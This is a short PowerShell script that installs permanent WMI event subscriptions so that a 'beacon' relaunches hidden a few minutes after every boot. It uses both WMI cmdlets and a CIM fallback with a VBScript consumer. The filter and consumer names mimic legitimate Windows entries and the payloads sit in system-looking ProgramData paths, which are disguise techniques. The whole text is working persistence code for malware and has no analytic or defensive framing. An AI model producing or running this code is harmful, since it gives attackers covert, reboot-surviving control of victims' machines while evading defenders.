# permanent WMI subscription: runs the beacon a few minutes after every boot
$filterName = 'SCM Event Log Filter'
$consumerName = 'SCM Event Log Consumer'
$query = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240"
$command = 'powershell.exe -NoP -W Hidden -File C:\ProgramData\Microsoft\Crypto\sync.ps1'

$filter = Set-WmiInstance -Namespace root\subscription -Class __EventFilter -Arguments @{
    Name           = $filterName
    EventNamespace = 'root\cimv2'
    QueryLanguage  = 'WQL'
    Query          = $query
}
$consumer = Set-WmiInstance -Namespace root\subscription -Class CommandLineEventConsumer -Arguments @{
    Name                = $consumerName
    CommandLineTemplate = $command
}
Set-WmiInstance -Namespace root\subscription -Class __FilterToConsumerBinding -Arguments @{ Filter = $filter; Consumer = $consumer }

# same again through CIM for hosts where the WMI cmdlets are gone
$f2 = New-CimInstance -Namespace root/subscription -ClassName __EventFilter -Property @{ Name = 'BVTFilter'; EventNamespace = 'root\cimv2'; QueryLanguage = 'WQL'; Query = $query }
$c2 = New-CimInstance -Namespace root/subscription -ClassName ActiveScriptEventConsumer -Property @{ Name = 'BVTConsumer'; ScriptingEngine = 'VBScript'; ScriptText = 'CreateObject("WScript.Shell").Run "C:\ProgramData\sync.exe", 0' }
New-CimInstance -Namespace root/subscription -ClassName __FilterToConsumerBinding -Property @{ Filter = [ref]$f2; Consumer = [ref]$c2 }
